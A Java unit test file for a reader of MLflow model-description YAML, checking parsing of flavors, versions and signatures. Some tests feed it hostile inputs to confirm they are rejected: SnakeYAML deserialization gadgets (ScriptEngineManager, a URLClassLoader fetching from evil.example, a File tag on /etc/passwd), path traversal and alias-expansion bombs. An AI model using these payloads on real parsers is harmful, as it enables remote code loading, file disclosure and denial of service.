package org.millwright.adapter.mlmodel;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.millwright.registry.model.ModelDescription;
import org.millwright.registry.model.Signature;

class YamlDescriptionReaderTest {
    private static final String SKLEARN = """
            artifact_path: mlflow-artifacts:/0/models/m-1/artifacts
            flavors:
              python_function:
                env: {conda: conda.yaml, virtualenv: python_env.yaml}
                loader_module: mlflow.sklearn
                python_version: 3.11.7
              sklearn: {pickled_model: model.pkl, sklearn_version: 1.7.2}
            mlflow_version: 3.17.2
            saved_input_example_info:
              artifact_path: input_example.json
              type: dataframe
            signature:
              inputs: '[{"type": "double", "name": "mean radius", "required": true}, {"type":
                "string", "name": "site", "required": false}]'
              outputs: '[{"type": "long", "required": true}]'
              params: '[{"name": "top_k", "type": "long", "default": 3, "shape": null}, {"name":
                "stops", "type": "string", "default": ["a"], "shape": [-1]}]'
            """;

    private final YamlDescriptionReader reader = new YamlDescriptionReader();

    @Test
    void a_model_says_how_it_is_loaded_and_what_made_it() {
        var description = reader.read(SKLEARN);

        assertThat(description.flavors()).containsExactly("python_function", "sklearn");
        assertThat(description.pythonVersion()).isEqualTo("3.11.7");
        assertThat(description.mlflowVersion()).isEqualTo("3.17.2");
        assertThat(description.inputExample()).isEqualTo("input_example.json");
    }

    @Test
    void columns_and_parameters_are_read_with_their_types() {
        var signature = reader.read(SKLEARN).signature();

        assertThat(signature.inputs())
                .containsExactly(
                        new Signature.Column("mean radius", "double", true, 1),
                        new Signature.Column("site", "string", false, 1));
        assertThat(signature.outputs()).containsExactly(new Signature.Column("", "long", true, 1));
        assertThat(signature.parameters())
                .containsExactly(
                        new Signature.Parameter("top_k", "long", "3"),
                        new Signature.Parameter("stops", "string[-1]", "[\"a\"]"));
    }

    @ParameterizedTest
    @ValueSource(ints = {4, 9, 24})
    void lists_of_lists_as_the_name_of_a_flavor_say_nothing(int levels) {
        var bomb = new StringBuilder("a0: &a0 [x, x]\n");
        for (var level = 1; level <= levels; level++) {
            bomb.append("a%1$d: &a%1$d [*a%2$d, *a%2$d]\n".formatted(level, level - 1));
        }
        assertThat(reader.read(bomb + "flavors:\n  ? *a%d\n  : 1\n".formatted(levels)))
                .isEqualTo(ModelDescription.NONE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "flavors: !!java.io.File [/etc/passwd]",
                "flavors: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://127.0.0.1/']]",
                "flavors: &a {? *a : 1}"
            })
    void tags_make_no_objects_and_nothing_holds_itself(String mlmodel) {
        assertThat(reader.read(mlmodel).flavors()).isEmpty();
    }

    @Test
    void a_tensor_shows_its_shape() {
        var signature = reader.read("""
                        signature:
                          inputs: '[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 3]}}]'
                          outputs: null
                        """).signature();

        assertThat(signature.inputs()).containsExactly(new Signature.Column("", "float64[-1,3]", true, 3));
        assertThat(signature.outputs()).isEmpty();
    }

    @Test
    void types_that_are_made_of_others_are_spelt_out() {
        var signature = reader.read("""
                        signature:
                          inputs: '[{"name": "messages", "type": "array", "items": {"type": "object", "properties":
                            {"role": {"type": "string"}, "scores": {"type": "map", "values": {"type": "double"}}}}}]'
                        """).signature();

        assertThat(signature.inputs().getFirst().type()).isEqualTo("array<object{role: string, scores: map<double>}>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{broken",
                "just text",
                "- a list",
                "!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]",
                "signature: {inputs: 'no json', outputs: '{}', params: '[1, [], null]'}",
                "flavors: [1, 2]\nsignature: text\nsaved_input_example_info: {artifact_path: ../../secret}"
            })
    void what_is_not_understood_is_left_out(String mlmodel) {
        var description = reader.read(mlmodel);

        assertThat(description.inputExample()).isEmpty();
        assertThat(description.signature().inputs()).isEmpty();
    }

    @Test
    void a_document_that_nests_without_end_or_repeats_itself_is_no_description() {
        assertThat(reader.read("[".repeat(200_000))).isEqualTo(ModelDescription.NONE);
        assertThat(reader.read("- ".repeat(100_000) + "x")).isEqualTo(ModelDescription.NONE);
        var bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (var level = 1; level < 60; level++) {
            bomb.append("a%d: &a%d [%s]\n".formatted(level, level, ("*a" + (level - 1) + ", ").repeat(9)));
        }
        assertThat(reader.read(bomb.toString()).flavors()).isEmpty();
    }
}
